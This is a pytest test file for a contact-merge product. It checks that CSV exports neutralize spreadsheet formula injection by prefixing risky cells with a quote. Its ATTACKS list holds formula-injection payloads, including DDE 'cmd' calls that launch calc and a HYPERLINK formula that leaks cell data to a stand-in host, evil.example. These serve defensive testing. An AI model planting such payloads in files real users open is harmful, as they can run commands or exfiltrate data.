"""Every CSV the product writes neutralizes cells a spreadsheet would run as formulas (issue 11)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from contactmerge.services import csv_export
from contactmerge.services.csv_export import neutralize
from contactmerge.services.importing import outcomes
from contactmerge.storage.db import make_sessionmaker
from contactmerge.storage.tables import Workspace
from tests.conftest import Database
from tests.test_importing import new_workspace, run, write_csv

SRC = Path(__file__).resolve().parents[1] / "src" / "contactmerge"
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5",  # a negative number too, as OWASP advises: "-5+cmd|…" starts the same way
    "+44 20 7946 0000",
]
HARMLESS = ["Ada", "ada@example.com", "5", "", "a=b", "O'Brien", "'quoted", "1-2", "x\n=1+1", "Zoë, Müller"]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(value: str) -> None:
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_are_written_as_they_are(value: str) -> None:
    assert neutralize(value) == value


def test_numbers_and_none_are_written_as_text_by_the_same_rule() -> None:
    assert [neutralize(v) for v in (None, 7, -7, 1.5)] == ["", "7", "'-7", "1.5"]


def test_the_writer_neutralizes_every_cell_and_keeps_csv_quoting() -> None:
    buffer = io.StringIO()
    writer = csv_export.writer(buffer)
    writer.writerow(["row", "cells"])
    writer.writerow([1, *ATTACKS, *HARMLESS])
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [
        ["row", "cells"],
        ["1", *("'" + v for v in ATTACKS), *HARMLESS],
    ]


def test_errors_csv_neutralizes_the_cells_of_the_file_it_reports(database: Database, tmp_path: Path) -> None:
    workspace_id = new_workspace(database)
    rows = [
        ["=cmd|' /C calc'!A0", "not-an-email", "@SUM(1+1)*cmd|' /C calc'!A0"],
        ["u2", "u2@example.com", "Plain"],
        ["", "", "-3"],
    ]
    job = run(database, workspace_id, write_csv(tmp_path / "u.csv", ["user_id", "email", "name"], rows))
    # the first row keeps its external_id and loses only its email (R3: a bad cell costs that value)
    assert job.counts == {"created": 2, "no_identifier": 1, "cells_dropped": 1, "rows_with_cell_problems": 1}
    with make_sessionmaker(database.engine)() as db:
        text = "".join(outcomes.problem_csv(db, db.get_one(Workspace, workspace_id), job.id))
    bad_email = "'not-an-email' is not a valid email address: An email address must have an @-sign."
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["row", "problem", "column", "reason", "cells"],
        [
            "1",
            "created",
            "email",
            f"email: {bad_email}",
            "'=cmd|' /C calc'!A0",
            "not-an-email",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
        ],
        ["3", "no_identifier", "", "the row has neither an external_id nor an email", "", "", "'-3"],
    ]


def test_no_module_writes_csv_but_through_csv_export() -> None:
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\b")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "csv_export.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
